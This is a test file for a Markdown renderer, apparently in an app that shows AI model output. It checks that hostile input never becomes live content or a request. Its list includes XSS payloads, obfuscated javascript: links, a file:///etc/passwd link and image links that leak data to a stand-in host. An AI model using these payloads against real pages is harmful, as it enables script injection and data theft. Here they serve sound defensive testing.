import { act, screen, waitFor } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { expect, test, vi } from 'vitest';
import { show } from '../test/render';
import { InParts, LinkContext, Markdown } from './markdown';

// What a hostile model or package may write. None of it may become a live element or a request.
const hostile = [
  '<script>window.pwned = 1</script>',
  '<img src=x onerror="window.pwned = 1">',
  '<svg/onload="window.pwned = 1">',
  '<iframe src="https://evil.example"></iframe>',
  '<form action="https://evil.example"><input name="a"></form>',
  '<style>body { display: none }</style>',
  '<a href="javascript:window.pwned=1">x</a>',
  '<details open ontoggle="window.pwned=1">x</details>',
  '<base href="https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<math><mtext><img src=x onerror="window.pwned=1"></mtext></math>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](file:///etc/passwd)',
  '[x](tauri://localhost)',
  '[x](ipc://localhost/submit)',
  '[x](vbscript:msgbox(1))',
  '[x]( \u0001javascript:alert(1))',
  '<javascript:alert(1)>',
  '![x](https://evil.example/leak.png?d=secret)',
  '![x](//evil.example/leak.png)',
  '![x](data:image/png;base64,AAAA)',
  '[![x](https://evil.example/a.png)](https://ok.example)',
  '[ref]\n\n[ref]: javascript:alert(1)',
  '![ref]\n\n[ref]: https://evil.example/a.png',
  '```html\n<script>window.pwned = 1</script>\n```',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
];

const FORBIDDEN =
  'script,img,svg[onload],iframe,form,input[name],style,base,link,object,embed,a[href],video,audio,picture,source';

test.each(hostile)('nothing live comes of %j', (text) => {
  for (const streaming of [false, true]) {
    const { container, unmount } = show(<Markdown text={text} streaming={streaming} />);
    expect([...container.querySelectorAll(FORBIDDEN)].map((e) => e.outerHTML)).toEqual([]);
    for (const element of container.querySelectorAll('*')) {
      const handlers = element.getAttributeNames().filter((name) => name.startsWith('on'));
      expect(handlers).toEqual([]);
    }
    for (const link of container.querySelectorAll('button.link')) {
      expect(link.getAttribute('title')).toMatch(/^(https?|mailto):/i);
    }
    expect(document.head.querySelectorAll('link[rel=preload]')).toHaveLength(0);
    expect((window as { pwned?: number }).pwned).toBeUndefined();
    unmount();
  }
});

test('a link is handed to the window, with its address, and opens nothing by itself', async () => {
  const open = vi.fn();
  show(
    <LinkContext.Provider value={open}>
      <Markdown text="See [the manual](https://example.org/manual)." />
    </LinkContext.Provider>,
  );
  await userEvent.click(screen.getByRole('button', { name: 'the manual' }));
  expect(open).toHaveBeenCalledExactlyOnceWith('https://example.org/manual');
});

test('an image is named instead of loaded, in the reader’s language', () => {
  show(<Markdown text="![a chart](https://evil.example/x.png)" />, 'zh');
  expect(screen.getByText('未加载图片：a chart')).toBeVisible();
});

test('ordinary Markdown is shown as such', () => {
  const { container } = show(
    <Markdown
      text={
        '# Title\n\n**bold** `code`\n\n- one\n- two\n\n```js\nlet a = 1;\n```\n\n| a |\n|---|\n| 1 |'
      }
    />,
  );
  expect(container.querySelector('h3')).toHaveTextContent('Title');
  expect(container.querySelector('strong')).toHaveTextContent('bold');
  expect(container.querySelectorAll('li')).toHaveLength(2);
  expect(container.querySelector('pre')).toHaveTextContent('let a = 1;');
  expect(container.querySelector('td')).toHaveTextContent('1');
});

test('half-written Markdown is closed while it streams', () => {
  const { container } = show(<Markdown text="This is **half" streaming />);
  expect(container.querySelector('strong')).toHaveTextContent('half');
  expect(container).not.toHaveTextContent('**');
});

const nested = (levels: number) =>
  Array.from({ length: levels }, (_, n) => `${'  '.repeat(n)}- a`).join('\n');

// Each takes longer than anyone waits, or more calls than the stack holds.
test.each([
  ['quotations in quotations', '> '.repeat(3000)],
  ['lists in lists', nested(500)],
  ['lists in lists on one line', '- '.repeat(3000)],
  ['emphasis that never ends', '*a_ '.repeat(4000)],
  ['brackets that never close', '[a]('.repeat(4000)],
  ['a letter and a new paragraph', 'a\n\n'.repeat(20_000)],
  ['cells', '|a'.repeat(50_000)],
  ['a book', 'word '.repeat(50_000)],
])('%s are shown as plain text', (_, text) => {
  for (const streaming of [false, true]) {
    const { container, unmount } = show(<Markdown text={text} streaming={streaming} />);
    const plain = container.querySelector('pre.plain');
    // What is to be agreed to is shown whole.
    expect(plain?.textContent).toBe(text);
    expect(container.querySelectorAll('*')).toHaveLength(1);
    unmount();
  }
});

/** More than is laid out at once. */
const long = `${'word '.repeat(20_000)}and its end`;

test('a very long message is read on part by part', async () => {
  const { container } = show(
    <InParts value>
      <Markdown text={`${'> '.repeat(3000)}${long}`} />
    </InParts>,
  );
  const plain = () => container.querySelector('pre.plain')?.textContent ?? '';
  expect(plain()).toHaveLength(12_000);
  await userEvent.click(screen.getByTestId('more-of-text'));
  expect(plain()).not.toContain('and its end');
  await userEvent.click(screen.getByTestId('more-of-text'));
  expect(plain()).toContain('and its end');
  expect(screen.queryByTestId('more-of-text')).toBeNull();
});

test('of a very long message that is being written the newest words are shown', () => {
  const { container } = show(
    <InParts value>
      <Markdown text={`${'> '.repeat(3000)}${long}`} streaming />
    </InParts>,
  );
  expect(container.querySelector('pre.plain')?.textContent).toMatch(/and its end$/);
});

test('what people write is no too much', () => {
  const story = `## A title\n\n${'Some *words* with `code` and [links](https://a.example). '.repeat(10)}\n\n`;
  const code = `\`\`\`ts\n${'  const [a_b, c] = await it(d * 2);\n'.repeat(200)}\`\`\`\n\n`;
  const table = `| a | b |\n|---|---|\n${'| **c** | `d` |\n'.repeat(100)}\n`;
  const text = `${story.repeat(20)}${nested(12)}\n\n${code}${table}`;
  const { container } = show(<Markdown text={text} />);
  expect(container.querySelector('pre.plain')).toBeNull();
  expect(container.querySelectorAll('h3')).toHaveLength(20);
  expect(container.querySelectorAll('tr')).toHaveLength(101);
});

test('what cannot be seen is a sign, also when an entity names it', () => {
  const { container } = show(
    <Markdown text={'say\u202e `co\u200bde` &#x202e;**b\u2066** [a](https://a.example/\u200b)'} />,
  );
  expect(container).toHaveTextContent('say⟨U+202E⟩ co⟨U+200B⟩de ⟨U+202E⟩b⟨U+2066⟩ a');
});

test.each([
  ['the name of a language', '~~~a&#x202e;b\nc\n~~~', 'a⟨U+202E⟩b'],
  ['the words for an image', '![a&#x202e;b](https://a.example/x.png)', 'a⟨U+202E⟩b'],
])('what cannot be seen is a sign in %s', (_, text, sign) => {
  const { container } = show(<Markdown text={text} />);
  expect(container).toHaveTextContent(sign);
  expect(container.textContent).not.toContain('\u202e');
});

const FENCED = '```ts\nconst one = "two"; // three\n```';
const coloured = (kind: string) => document.querySelector(`.md .code .tok-${kind}`)?.textContent;

test('a block of code is shown in the colours of its language, and is the same text', async () => {
  show(<Markdown text={FENCED} />);
  await waitFor(() => expect(coloured('keyword')).toBe('const'));
  expect(coloured('string')).toBe('"two"');
  expect(coloured('comment')).toBe('// three');
  expect(document.querySelector('.md .code code')).toHaveTextContent('const one = "two"; // three');
});

test.each([
  ['while it is being written', FENCED, true],
  ['when it is long', `\`\`\`ts\n${'const one = 1;\n'.repeat(1500)}\`\`\``, false],
  ['when nobody knows its language', '```nonesuch\nconst one = 1;\n```', false],
])('a block of code has no colours %s', async (_when, text, streaming) => {
  show(<Markdown text={text} streaming={streaming} />);
  await import('./code-parts').then(({ codePartsOf }) => codePartsOf('const', 'ts'));
  await act(async () => {});
  expect(document.querySelector('.md .code code')?.children).toHaveLength(0);
});
